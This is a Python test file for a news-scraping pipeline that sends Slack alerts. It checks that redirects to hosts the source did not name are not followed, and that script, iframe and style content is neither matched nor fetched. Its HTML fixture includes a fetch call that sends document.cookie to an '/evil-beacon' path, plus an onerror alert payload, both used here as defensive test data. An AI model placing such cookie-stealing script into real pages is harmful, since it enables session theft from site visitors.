"""Hostile HTML sources through the whole pipeline: article links that redirect to a host the source did not
name, and pages full of scripts, iframes and styles that mention the watchlist where no reader sees it."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.reliability.harness import healthy_source, logged, pipeline_settings, run_once, tally
from tests.reliability.news import HEALTHY, HTML, article_page, list_page
from tests.reliability.scorecard import Card
from tests.servers.http import HttpServer
from tests.servers.slack import SlackStandIn

# Distinct events (place, subject, figures), so that the grouper keeps them apart: these tests are about pages.
ELSEWHERE = ("CIBF 2025 개막…중국 배터리 업체 신제품 경쟁",
             ["중국 선전에서 CIBF가 개막해 닷새 동안 열린다. 배터리 업체 1,300여 곳이 나트륨이온 전지와 "
              "반고체 전지 신제품을 내놓았다.", "주최 측은 관람객이 40만 명을 넘을 것으로 내다봤다."])
HARBOUR = ("포항 영일만항 컨테이너 물동량 역대 최대", ["포항 영일만항의 올해 컨테이너 물동량이 역대 최대를 기록했다.",
                                         "이차전지 소재 수출 물량이 1년 새 두 배로 늘어난 덕분이다."])
TRAINING = ("구미 반도체 특화단지 인력양성 과정 개강", ["구미 반도체 특화단지의 인력양성 과정이 금오공대에서 개강했다."])
FESTIVAL = ("대구 수성못 겨울 빛축제 개막", ["대구 수성못 일대에서 겨울 빛축제가 개막했다."])
# Full articles add these paragraphs; briefs (a line or two, common in regional papers) do not.
MORE = {
    TRAINING[0]: ["교육생 120명은 여섯 달 동안 웨이퍼 공정 실습을 거쳐 입주기업에 채용되며, 도는 훈련수당을 지원한다.",
                  "입주기업들은 내년부터 3년 동안 해마다 100명 이상을 새로 뽑기로 했다."],
    FESTIVAL[0]: ["축제는 다음 달 말까지 이어지며 매일 저녁 6시에 점등한다. 수성구는 둘레길 2km 구간에 조명 터널과 포토존 "
                  "12곳을 꾸몄다.", "주말에는 버스킹 공연과 먹거리 장터도 열린다."],
}

SCRIPTED = """
<script>var headline = "포항 이차전지 특화단지 속보"; document.write('<p>포항 이차전지</p>');
fetch('/evil-beacon?c=' + document.cookie);</script>
<script src="/evil.js"></script>
<style>.x::after { content: "이차전지 포항 CIBF"; }</style>
<noscript><p>포항 이차전지 특화단지 noscript 광고</p></noscript>
<iframe src="/evil-frame" srcdoc="&lt;p&gt;포항 이차전지 특화단지 iframe&lt;/p&gt;">포항 이차전지 CIBF</iframe>
<object data="/evil-object"><p>포항 이차전지</p></object>
<template><p>포항 이차전지 특화단지 template</p></template>
<img src="/x.png" onerror="alert('포항 이차전지')">
"""
NEVER_FETCHED = ("/evil.js", "/evil-frame", "/evil-object", "/evil-beacon", "/x.png")


def _html_source(server: HttpServer, name: str, **extra: object) -> dict[str, object]:
    return {"name": name, "kind": "html", "url": server.url("/list.html"), "link_selector": "ul.news a", **extra}


@pytest.mark.parametrize("allowed", [False, True], ids=["not-allowed", "allowed-in-config"])
def test_article_redirect_to_another_host_is_followed_only_when_allowed(
    allowed: bool, tmp_path: Path, http_server: HttpServer, slack_server: SlackStandIn, slack_env: None,
    caplog: pytest.LogCaptureFixture, scorecard: Card,
) -> None:
    name = "redirecting-paper"
    http_server.add("/list.html", list_page([("/a/1", ELSEWHERE[0]), ("/a/2", HARBOUR[0])]).encode(), headers=HTML)
    http_server.add("/a/1", redirect_to=http_server.url("/elsewhere/1", host="localhost"))
    http_server.add("/elsewhere/1", article_page(*ELSEWHERE).encode(), headers=HTML)
    http_server.add("/a/2", article_page(*HARBOUR).encode(), headers=HTML)
    source = _html_source(http_server, name, allowed_hosts=["localhost"] if allowed else [])
    settings = pipeline_settings(tmp_path, slack_server, [source, healthy_source(http_server)])

    run = run_once(settings)

    expected = [HEALTHY.key, HARBOUR[0]] + ([ELSEWHERE[0]] if allowed else [])
    result = tally(slack_server, expected)
    fetched = http_server.hits("/elsewhere/1")
    lines = logged(caplog, name, "another host")
    errors = run.counts(f"source:{name}").get("errors", 0)
    scorecard.record(
        f"source: article redirect to another host ({'allowed' if allowed else 'not allowed'})",
        "followed only when the host is in allowed_hosts; otherwise logged, counted, skipped",
        f"foreign page fetched {fetched}x, logged: {bool(lines)}, errors counted: {errors}, {result.describe()}",
        lost=result.lost, doubled=result.doubled,
    )
    assert result.counts == {k: 1 for k in expected} and result.noise == 0, result
    if allowed:
        assert fetched == 1 and not lines
    else:
        assert fetched == 0, "followed a redirect to a host the source did not name"
        assert lines and errors >= 1, (lines, run.component(f"source:{name}"))


@pytest.mark.parametrize("length", ["article", "brief"])
def test_scripts_iframes_and_styles_never_reach_matching_or_people(
    length: str, tmp_path: Path, http_server: HttpServer, slack_server: SlackStandIn, slack_env: None,
    scorecard: Card,
) -> None:
    name = "scripted-paper"
    http_server.add("/list.html", list_page([("/s/1", TRAINING[0]), ("/s/2", FESTIVAL[0])]).encode(), headers=HTML)
    for path, (title, paragraphs) in (("/s/1", TRAINING), ("/s/2", FESTIVAL)):
        text = paragraphs + (MORE[title] if length == "article" else [])
        page = article_page(title, text, extra_head=SCRIPTED, extra_body=SCRIPTED)
        http_server.add(path, page.encode(), headers=HTML)
    settings = pipeline_settings(tmp_path, slack_server, [_html_source(http_server, name), healthy_source(http_server)])

    run = run_once(settings)

    result = tally(slack_server, [HEALTHY.key, TRAINING[0]])
    sent = " ".join(str(c.params) for c in slack_server.posts)
    leaked = [w for w in ("script", "iframe", "noscript", "template", "document.cookie", "alert(", "속보")
              if w in sent]
    fetched = {p: http_server.hits(p) for p in NEVER_FETCHED if http_server.hits(p)}
    dropped = run.counts("grouper").get("dropped", 0)
    scorecard.record(
        f"source: HTML with scripts, iframes, styles ({length})",
        "script/iframe/style text is never matched or shown; their URLs are never fetched",
        f"{result.describe()}, script text in alerts: {leaked or 'none'}, sub-resources fetched: "
        f"{sorted(fetched) or 'none'}, irrelevant page dropped (counted {dropped})",
        lost=result.lost, doubled=result.doubled,
    )
    assert result.counts == {HEALTHY.key: 1, TRAINING[0]: 1} and result.noise == 0, \
        [c.params.get("text") for c in slack_server.posts]
    assert not leaked, sent[:2000]
    training = next(str(c.params.get("text")) for c in slack_server.posts if TRAINING[0] in str(c.params.get("text")))
    assert training.startswith("[특화단지]"), training  # 이차전지 and 포항 appear only in scripts and frames
    assert not fetched
    assert dropped >= 1  # the festival page, whose only 포항/이차전지 is in scripts and frames
    assert FESTIVAL[0] not in sent
